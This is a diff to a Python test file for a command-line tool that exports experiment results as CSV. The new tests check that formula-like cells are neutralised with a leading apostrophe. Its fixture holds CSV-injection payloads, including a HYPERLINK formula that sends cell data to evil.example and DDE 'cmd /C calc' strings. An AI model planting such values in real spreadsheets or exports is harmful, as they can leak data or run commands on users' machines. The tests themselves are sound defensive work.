@@ -138,7 +138,10 @@ def test_no_submissions_yet_writes_nothing(babe, experiment, backend):
     backend.backend.add_experiment(12, retrieval_keys=["assignment_id"])
     run = babe("results", "--json")
     assert run.code == 0
-    assert run.json == {"path": None, "rows": 0, "submissions": 0, "columns": 0, "column_names": [], "anonymized": False}
+    assert run.json == {
+        "path": None, "rows": 0, "submissions": 0, "columns": 0, "column_names": [], "anonymized": False,
+        "neutralized": 0, "raw": False,
+    }
     assert files(experiment) == []
     assert "No results for experiment exp1 yet: nothing was written." in babe("results").out
 
@@ -274,3 +277,64 @@ def test_anonymize_without_a_usable_salt_stops_before_any_request(babe, experime
     assert run.code == 2 and words in run.err
     assert data.requests == [] and files(experiment) == []
     assert "short" not in run.err.replace("characters long", "")
+
+
+# -- formulas ----------------------------------------------------------------------------------------
+HOSTILE = {
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1": "'+1+1",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-5": "-5",
+    "+3.2": "+3.2",
+    "-1.5e3": "-1.5e3",
+    "a = b": "a = b",
+}
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_the_bytes(babe, experiment, backend):
+    fake = backend.backend
+    fake.add_experiment(12, retrieval_keys=["assignment_id", "comment", "=cmd"])
+    for number, answer in enumerate(HOSTILE):
+        fake.submit("12", [{"assignment_id": f"ASSIGN{number}", "comment": answer}])
+    fake.submit("12", [{"assignment_id": "ASSIGN-x", "comment": "fine", "=cmd": "x"}])  # a hostile key too
+
+    run = babe("results", "--json")
+    assert run.code == 0, run
+    (path,) = files(experiment)
+    read = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
+    assert read[0] == ["submission_id", "assignment_id", "comment", "'=cmd"]
+    assert [row[2] for row in read[1 : len(HOSTILE) + 1]] == list(HOSTILE.values())
+    assert (run.json["neutralized"], run.json["raw"]) == (7, False)
+    text = babe("results")
+    assert "7 cell(s) a spreadsheet would run as a formula start with ' now (--raw keeps the backend's bytes)." in text.out
+
+    raw = babe("results", "--raw", "--json")
+    assert (raw.code, raw.json["neutralized"], raw.json["raw"]) == (0, 0, True)
+    kept = list(csv.reader(io.StringIO(Path(raw.json["path"]).read_bytes().decode(), newline=""), strict=True))
+    assert kept[0][3] == "=cmd" and [row[2] for row in kept[1 : len(HOSTILE) + 1]] == list(HOSTILE)
+
+
+def test_a_file_without_formulas_keeps_the_backends_bytes(babe, experiment, data, monkeypatch):
+    run = babe("results", "--json")
+    assert (run.code, run.json["neutralized"]) == (0, 0)
+    assert Path(run.json["path"]).read_text() == data.csv_text("12")
+
+
+def test_a_backend_without_a_password_serves_results_without_retrieval_keys(babe, experiment, capsys):
+    """The README's `babe local.backend` (no --password-env): no retrieval keys, an open CSV route."""
+    server, _ = serve_backend()
+    try:
+        fake = server.backend
+        fake.add_experiment(12)  # what local.backend does: no dynamic retrieval keys
+        fake.submit("12", trials("A1WORKERAAAAAA", "ASSIGN1", "HIT1"))
+        write_deploy_config(experiment, experiment_id=12, server_app_url=f"{server.url}/api/submit_experiment/")
+        run = babe("results", "--json")
+        assert run.code == 0, run
+        assert ("GET", "/api/retrieve_experiment/12", 403) in fake.requests
+        assert ("GET", "/experiments/12/retrieve", 200) in fake.requests
+        assert Path(run.json["path"]).read_text() == fake.csv_text("12")
+    finally:
+        server.shutdown()
